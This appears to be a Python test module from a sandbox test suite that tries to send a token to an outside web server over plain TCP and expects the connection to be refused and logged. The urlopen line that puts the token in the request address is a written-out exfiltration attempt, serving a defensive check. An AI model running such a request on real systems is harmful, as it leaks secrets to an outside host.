"""A web server outside is asked over plain TCP."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground
from tests.attacks.grounds.world import WEB


def attempt(ground: Ground) -> bool:
    """The token in the address."""
    return ground.arrives(f"urllib.request.urlopen('http://{WEB}/{ground.token}')")


ATTACK = Attack("TCP to the outside", attempt, recorded=("network.refused", f"tcp {WEB}:80"))
